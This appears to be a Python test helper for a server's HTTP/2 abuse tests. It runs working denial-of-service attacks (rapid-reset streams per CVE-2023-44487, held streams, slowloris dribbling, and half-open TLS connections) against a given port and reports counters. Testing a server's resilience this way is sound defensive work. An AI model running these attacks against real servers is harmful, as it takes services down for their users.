#!/usr/bin/python3
"""HTTP/2 and TLS abuse against a cbx node's port, for h2_abuse_test.cc.

Plays a client that holds a valid member certificate and misuses the
connection (issue 9):

  rapid-reset  open streams and reset each at once (CVE-2023-44487), as fast
               as it can, over a few connections, reconnecting after GOAWAY;
  hold-streams open as many streams as the server allows on many
               connections and never send their request: thousands held;
  slowloris    many connections that send the TLS ClientHello, or after the
               handshake the HTTP/2 preface, one byte at a time;
  half-open    many connections that stop mid-way (TCP only, a partial
               ClientHello, a finished handshake and no preface) and never
               close.

Prints "ready" once the attack is under way, then keeps it up until SIGTERM
(but at least --min-seconds; at most --seconds), then prints one JSON line of
counters (closed_by_server: connections the server closed) and exits 0.
Needs Debian's python3-h2 (scripts/install-deps.sh).
"""

import argparse
import json
import signal
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

stop = False


def on_term(signum, frame):
    global stop
    stop = True


def tls_context(args):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE  # the attacker does not care who answers
    ctx.load_cert_chain(args.cert, args.key)
    ctx.set_alpn_protocols(["h2"])
    return ctx


def tcp(args):
    s = socket.create_connection((args.host, args.port), timeout=10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def client_hello(ctx):
    """The bytes of a ClientHello, made without a socket."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_side=False)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def h2_connection(args, ctx):
    """A TLS connection with the HTTP/2 preface and SETTINGS exchanged."""
    s = ctx.wrap_socket(tcp(args), server_hostname="localhost")
    conn = h2.connection.H2Connection(
        config=h2.config.H2Configuration(client_side=True,
                                         header_encoding="utf-8"))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def grpc_headers(args):
    return [(":method", "POST"), (":scheme", "https"),
            (":path", args.path), (":authority", "localhost"),
            ("content-type", "application/grpc"), ("te", "trailers")]


def drain(s, conn, counters, block=False):
    """Reads what the server sent; False once the connection is over."""
    s.setblocking(block)
    try:
        while True:
            data = s.recv(65536)
            if not data:
                return False
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    counters["goaways"] += 1
                    return False
                if isinstance(event, h2.events.StreamReset):
                    counters["server_resets"] += 1
            out = conn.data_to_send()
            if out:
                s.sendall(out)
            if block:
                return True
    except (ssl.SSLWantReadError, BlockingIOError):
        return True
    except (OSError, h2.exceptions.ProtocolError):
        return False
    finally:
        s.setblocking(True)


def rapid_reset(args, counters, deadline):
    ctx = tls_context(args)
    headers = grpc_headers(args)
    conns = []
    announced = False
    while not stop and time.time() < deadline:
        while len(conns) < args.connections:
            try:
                conns.append(h2_connection(args, ctx))
                counters["connections"] += 1
            except OSError:
                counters["connect_failures"] += 1
                time.sleep(0.05)
                break
        alive = []
        for s, conn in conns:
            ok = True
            try:
                for _ in range(args.batch):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    conn.reset_stream(sid, error_code=8)  # CANCEL
                    counters["streams"] += 1
                s.sendall(conn.data_to_send())
                ok = drain(s, conn, counters)
            except (OSError, h2.exceptions.ProtocolError,
                    h2.exceptions.NoAvailableStreamIDError):
                ok = False
            if ok:
                alive.append((s, conn))
            else:
                s.close()
        conns = alive
        if not announced and counters["streams"] >= args.batch:
            print("ready", flush=True)
            announced = True
    for s, _ in conns:
        s.close()


def hold_streams(args, counters, deadline):
    ctx = tls_context(args)
    headers = grpc_headers(args)
    held = []
    for _ in range(args.connections):
        if stop:
            break
        try:
            s, conn = h2_connection(args, ctx)
            drain(s, conn, counters, block=True)  # the server's SETTINGS
            counters["connections"] += 1
        except OSError:
            counters["connect_failures"] += 1
            continue
        limit = min(conn.remote_settings.max_concurrent_streams, args.streams)
        counters["server_stream_limit"] = conn.remote_settings.max_concurrent_streams
        try:
            for _ in range(limit):
                conn.send_headers(conn.get_next_available_stream_id(), headers)
                counters["streams"] += 1
            s.sendall(conn.data_to_send())
        except (OSError, h2.exceptions.ProtocolError) as e:
            counters["errors"] += 1
        held.append((s, conn))
    print("ready", flush=True)
    while not stop and time.time() < deadline:
        for s, conn in held:
            drain(s, conn, counters)
        time.sleep(0.05)
    for s, _ in held:
        s.close()


def slowloris(args, counters, deadline):
    ctx = tls_context(args)
    hello = client_hello(ctx)
    conn = h2.connection.H2Connection()
    conn.initiate_connection()
    preface = conn.data_to_send()
    # Half the connections dribble the ClientHello over raw TCP; half finish
    # the handshake and dribble the HTTP/2 preface.
    drips = []
    for i in range(args.connections):
        try:
            if i % 2 == 0:
                drips.append([tcp(args), hello, 0, "tls"])
            else:
                drips.append([ctx.wrap_socket(tcp(args),
                                              server_hostname="localhost"),
                              preface, 0, "h2"])
            counters["connections"] += 1
        except OSError:
            counters["connect_failures"] += 1
    print("ready", flush=True)
    hold_until = time.time() + args.min_seconds
    while time.time() < deadline and (not stop or time.time() < hold_until):
        for d in drips:
            s, data, at, _ = d
            if s is None:
                continue
            try:
                s.sendall(data[at % len(data):at % len(data) + 1])
                counters["bytes"] += 1
                d[2] = at + 1
            except OSError:
                counters["closed_by_server"] += 1
                s.close()
                d[0] = None
        time.sleep(args.drip_ms / 1000.0)
    for d in drips:
        if d[0] is not None:
            d[0].close()


def half_open(args, counters, deadline):
    ctx = tls_context(args)
    hello = client_hello(ctx)
    socks = []
    for i in range(args.connections):
        try:
            kind = i % 3
            if kind == 0:
                s = tcp(args)  # TCP only
            elif kind == 1:
                s = tcp(args)
                s.sendall(hello[:len(hello) // 2])  # half a ClientHello
            else:
                s = ctx.wrap_socket(tcp(args), server_hostname="localhost")
            socks.append(s)
            counters["connections"] += 1
        except OSError:
            counters["connect_failures"] += 1
    print("ready", flush=True)
    hold_until = time.time() + args.min_seconds
    while time.time() < deadline and (not stop or time.time() < hold_until):
        time.sleep(0.05)
    # Which of them the server has closed meanwhile (a read sees the end).
    for s in socks:
        try:
            s.setblocking(False)
            if s.recv(1) == b"":
                counters["closed_by_server"] += 1
        except (BlockingIOError, ssl.SSLWantReadError):
            pass
        except OSError:
            counters["closed_by_server"] += 1
        s.close()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--cert", required=True)
    p.add_argument("--key", required=True)
    p.add_argument("--mode", required=True,
                   choices=["rapid-reset", "hold-streams", "slowloris",
                            "half-open"])
    p.add_argument("--path", default="/cbx.v1.Peer/Evaluate")
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--streams", type=int, default=1000)
    p.add_argument("--batch", type=int, default=100)
    p.add_argument("--drip-ms", type=int, default=100)
    p.add_argument("--seconds", type=float, default=60)
    # slowloris, half-open: keep the connections at least this long after
    # "ready", even if told to stop, to see the server close them.
    p.add_argument("--min-seconds", type=float, default=0)
    args = p.parse_args()
    signal.signal(signal.SIGTERM, on_term)
    counters = {"connections": 0, "connect_failures": 0, "streams": 0,
                "server_resets": 0, "goaways": 0, "errors": 0, "bytes": 0,
                "closed_by_server": 0}
    deadline = time.time() + args.seconds
    {"rapid-reset": rapid_reset, "hold-streams": hold_streams,
     "slowloris": slowloris, "half-open": half_open}[args.mode](
         args, counters, deadline)
    counters["mode"] = args.mode
    print(json.dumps(counters), flush=True)


if __name__ == "__main__":
    main()
